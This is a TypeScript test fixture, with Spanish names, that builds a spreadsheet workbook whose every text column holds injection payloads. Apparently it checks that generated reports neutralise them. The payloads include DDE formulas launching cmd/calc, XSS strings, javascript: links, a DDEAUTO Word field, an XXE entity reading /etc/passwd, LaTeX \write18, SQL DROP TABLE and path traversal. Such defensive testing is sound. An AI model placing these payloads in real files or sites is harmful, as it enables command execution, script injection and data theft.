/** Texts that would do harm where somebody ran them, and workbooks that hold them in every column of text. */
import { type OpcionesProducto, type UnLibro, unLibro } from './un-libro.js'

/** Each under its name. None has in it a link that a Markdown column may have: those are links by right. */
export const CARGAS: Readonly<Record<string, string>> = {
  'fórmula DDE': "=cmd|' /C calc'!A0",
  'fórmula de enlace': '=HYPERLINK("https://a.co?x="&A1,"ver")',
  'fórmula con +': '+1+cmd|x!A1',
  'fórmula con -': '-2+3+cmd|x!A1',
  'fórmula con @': '@SUM(1+1)*cmd|x!A1',
  'fórmula tras tabulador': '\t=1+1',
  'fórmula tras retorno': '\r=1+1',
  'fórmula tras espacio': '  =1+1',
  'fórmula tras espacio duro': '\u00a0=1+1',
  'fórmula tras un carácter sin ancho': '\u200b=1+1',
  'fórmula de ancho completo': '＝1+1',
  'fórmula de ancho completo con +': '＋1+1',
  'fórmula tras comilla': '"=1+1',
  'celda que se parte': 'a";=1+1;"b',
  script: '<script>alert(1)</script>',
  'script sin cerrar': '<script src=//a.co/x.js',
  imagen: '<img src=x onerror=alert(1)>',
  'svg con onload': '<svg/onload=alert(1)>',
  'atributo que se cierra': '" onmouseover="alert(1)" x="',
  'atributo de comilla simple': "' onmouseover='alert(1)",
  'título que se cierra': '</title><script>alert(1)</script>',
  'estilo que se cierra': '</style><script>alert(1)</script>',
  'script que se cierra': '</script><script>alert(1)</script>',
  iframe: '<iframe srcdoc="<script>alert(1)</script>">',
  meta: '<meta http-equiv=refresh content="0;url=https://a.co">',
  'plantilla de HTML': '<template><base href=https://a.co></template>',
  'enlace a javascript': '[ver](javascript:alert(1))',
  'enlace con mayúsculas': '[ver](JaVaScRiPt:alert(1))',
  'enlace con entidades': '[ver](&#106;avascript&colon;alert(1))',
  'enlace con espacios': '[ver]( \u0001javascript:alert(1))',
  'enlace a vbscript': '[ver](vbscript:msgbox)',
  'enlace a datos': '[ver](data:text/html;base64,PHNjcmlwdD4=)',
  'enlace a un archivo': '[ver](file:///etc/passwd)',
  'enlace a un recurso de red': '[ver](\\\\a.co\\x)',
  'enlace entre ángulos': '<javascript:alert(1)>',
  'enlace por referencia': '[ver][r]\n\n[r]: https://a.co',
  'dirección suelta': 'https://a.co/x www.a.co a@a.co',
  'imagen de Markdown': '![foto](https://a.co/f.png)',
  'imagen por referencia': '![foto][r]',
  'nota que nadie define': 'uno[^9]',
  'nombre de cifra que no cierra': '[[Salud avance',
  'valor de plantilla': '{{politica.nombre}}',
  'valor sin escapar': '{{{politica.nombre}}}',
  'parcial de plantilla': '{{> producto}}',
  'bloque de plantilla': '{{#cada sectores}}x{{/cada}}',
  'señal del programa': '\u{E000}0\u{E001}',
  'tabla de Markdown': '| a | b |',
  'título de Markdown': '# Título',
  'fin de CDATA': ']]>',
  'comienzo de CDATA': '<![CDATA[<w:p/>]]>',
  'comentario de XML': '<!-- x --',
  'instrucción de XML': '<?xml version="1.0"?>',
  'entidad de XML': '&amp;&lt;&#60;&x;',
  DTD: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  'XML de Word': '</w:t></w:r><w:r><w:instrText> DDEAUTO c:\\x </w:instrText></w:r>',
  'campo de Word': '{ HYPERLINK "https://a.co" }',
  'campo que trae una imagen': ' INCLUDEPICTURE "https://a.co/f.png" \\d',
  'campo DDEAUTO': 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  'campo de correspondencia': 'MERGEFIELD x \\* MERGEFORMAT',
  'comillas y barras de un campo': '" \\h \\o "x" \\l "_Toc1"',
  'cadena de PDF': ') /JS (app.alert(1)) /S /JavaScript (',
  'objeto de PDF': 'endstream endobj 1 0 obj << /OpenAction 2 0 R >> %%EOF',
  'paréntesis y barras': '\\) \\\\( )(',
  'orden de escritura': 'a\u202egnp.exe\u202c \u2066b\u2069',
  'caracteres sin ancho': 'a\u200b\u200d\u2060\ufeffb',
  controles: 'a\u0000\u0007\u001b[31mb\u007f\u009b2J',
  'medio par': 'a\ud800b',
  'no carácter': 'a\ufffeb\uffff',
  'novecientas tildes': `a${'\u0301'.repeat(900)}`,
  'una palabra muy larga': 'palabra'.repeat(60),
  'de derecha a izquierda': 'שלום עולם مرحبا',
  'emoji compuesto': '👩‍👩‍👧‍👦 🏳️‍🌈',
  'separadores de renglón': 'a\u2028b\u2029c',
  'salto de renglón': 'a\n[ERROR] renglón falso\nb',
  'ruta hacia arriba': '../../etc/passwd',
  'ruta de Windows': '..\\..\\CON',
  'nombre reservado': 'nul.',
  LaTeX: '\\input{/etc/passwd} $\\write18{x}$',
  SQL: "'; DROP TABLE x; --",
  'plantilla de JavaScript': ['$', '{alert(1)} `x`'].join(''),
  'secuencia de la terminal': '\u001b]8;;https://a.co\u0007ver\u001b]8;;\u0007',
}

/** A column of text of the workbook, as the test names it; `prosa`: it is Markdown. */
export const COLUMNAS = {
  ...columnasDe('Política', [
    'Nombre',
    'Sigla',
    'Documento',
    'Entidad líder',
    'Sigla de la entidad',
    'Dependencia',
    'Sector líder',
    'Ciudad',
  ]),
  ...columnasDe('Créditos', ['Grupo', 'Cargo', 'Nombre']),
  ...columnasDe('Objetivos', ['Enunciado']),
  ...columnasDe('Sectores', ['Sector']),
  ...columnasDe('Productos', [
    'Producto',
    'Entidad responsable',
    'Indicador',
    'Unidad de medida (singular)',
    'Unidad de medida (plural)',
    'Procedencia',
  ]),
  ...columnasDe('Metas', ['Procedencia']),
  ...columnasDe('Avances', ['Procedencia']),
  ...columnasDe('Capacitaciones', ['Estación de policía', 'Mes']),
  ...columnasDe('Jornadas', ['Lugar']),
  ...columnasDe('Reuniones', ['Entidad o sector']),
  ...columnasDe('Auditoría', ['Hallazgo', 'Motivo', 'Responsable']),
  ...columnasDe('Registro', ['Quién', 'Archivo', 'Qué']),
  ...columnasDe('Textos', ['Clave', 'Texto']),
  ...columnasDe('Objetivos', ['Conclusiones']),
  ...columnasDe('Sectores', ['Conclusiones']),
  ...columnasDe('Reportes', ['Logros', 'Dificultades', 'Observaciones']),
} as const satisfies Readonly<Record<string, string>>

function columnasDe(hoja: string, columnas: readonly string[]): Readonly<Record<string, string>> {
  return Object.fromEntries(columnas.map((columna) => [`${hoja}!${columna}`, columna]))
}

/** A payload in a column: what the cell holds, and the mark at its end by which it is found, letters and digits that nothing else has. */
export interface Puesta {
  readonly columna: string
  readonly carga: string
  readonly texto: string
  readonly marca: string
}

export interface LibroAtacado {
  readonly libro: UnLibro
  readonly puestas: readonly Puesta[]
}

/** The keys of `Textos` that the templates print, which hold the payloads of that column by turns. */
const CLAVES = ['presentacion', 'contexto-plan', 'aportes-introduccion', 'liderazgo', 'cierre'] as const

/**
 * A whole policy in which the cell of a column and a row holds the payload of that row. `cargas` by name: as many products, sectors and
 * objetivos. A field of `Política`, which has one row, holds all of them one after the other.
 */
export function libroConCargas(cargas: Readonly<Record<string, string>>): LibroAtacado {
  const nombres = Object.keys(cargas)
  const puestas: Puesta[] = []
  const columnas = Object.keys(COLUMNAS)
  const poner = (columna: string, carga: string): string => {
    const marca = `q${columnas.indexOf(columna)}x${Object.keys(CARGAS).indexOf(carga)}q`
    const texto = `${cargas[carga]} ${marca}`
    puestas.push({ columna, carga, texto, marca })
    return texto
  }
  const todas = (columna: string) => nombres.map((carga) => poner(columna, carga)).join(' · ')
  const filas = (columna: string) => nombres.map((carga) => poner(columna, carga))
  const libro = unLibro()
  for (const campo of ['Nombre', 'Sigla', 'Documento', 'Entidad líder', 'Sigla de la entidad', 'Dependencia', 'Sector líder', 'Ciudad'])
    libro.politica(campo, todas(`Política!${campo}`))
  const tabla = (hoja: string, columnas: readonly string[], demas: Readonly<Record<string, string | number>> = {}) => {
    const porColumna = columnas.map((columna) => filas(`${hoja}!${columna}`))
    const cuerpo = nombres.map((_, i) => [...porColumna.map((celdas) => celdas[i] ?? ''), ...Object.values(demas)])
    libro.hoja(hoja, [[...columnas, ...Object.keys(demas)], ...cuerpo])
  }
  tabla('Créditos', ['Grupo', 'Cargo', 'Nombre'])
  tabla('Capacitaciones', ['Estación de policía', 'Mes'], { Participantes: 3, Sesiones: 1 })
  tabla('Jornadas', ['Lugar'], { Fecha: '2023-03-01', Asistentes: 4 })
  tabla('Reuniones', ['Entidad o sector'], { Fecha: '2023-04-01' })
  tabla('Auditoría', ['Hallazgo', 'Motivo', 'Responsable'])
  tabla('Registro', ['Quién', 'Archivo', 'Qué'], { Fecha: '2023-05-01' })
  const claves = filas('Textos!Clave')
  const textos = filas('Textos!Texto')
  libro.hoja('Textos', [
    ['Clave', 'Texto'],
    ...claves.map((clave) => [clave, 'Un texto.']),
    ...CLAVES.map((clave, i) => [clave, textos.filter((_, j) => j % CLAVES.length === i).join('\n\n')]),
  ])
  const sectores = filas('Sectores!Sector')
  const columna = (nombre: string) => filas(nombre)
  const [enunciados, finales, conclusiones] = ['Objetivos!Enunciado', 'Objetivos!Conclusiones', 'Sectores!Conclusiones'].map(columna)
  const productos = {
    nombre: columna('Productos!Producto'),
    entidad: columna('Productos!Entidad responsable'),
    indicador: columna('Productos!Indicador'),
    singular: columna('Productos!Unidad de medida (singular)'),
    plural: columna('Productos!Unidad de medida (plural)'),
    procedencia: columna('Productos!Procedencia'),
    logros: columna('Reportes!Logros'),
    dificultades: columna('Reportes!Dificultades'),
    observaciones: columna('Reportes!Observaciones'),
  }
  nombres.forEach((_, i) => {
    const sector = sectores[i] ?? ''
    const textosDeFila = Object.fromEntries(Object.entries(productos).map(([campo, celdas]) => [campo, celdas[i] ?? '']))
    const cifras: OpcionesProducto = { metas: { 2022: 10, 2023: 10 }, avances: { 2022: 2, 2023: 1 } }
    libro.objetivo(i + 1, enunciados?.[i] ?? '', { conclusiones: finales?.[i] ?? '' })
    libro.sector(sector, { conclusiones: conclusiones?.[i] ?? '' })
    libro.producto(`${i + 1}.1.1`, { ...cifras, ...textosDeFila, sector })
  })
  libro.columna('Metas', 'Procedencia', filas('Metas!Procedencia'))
  libro.columna('Avances', 'Procedencia', filas('Avances!Procedencia'))
  return { libro, puestas }
}

/** The same workbook with a plain word in place of each payload. */
export function libroInocente(cargas: Readonly<Record<string, string>>): LibroAtacado {
  return libroConCargas(Object.fromEntries(Object.keys(cargas).map((nombre) => [nombre, 'palabra'])))
}
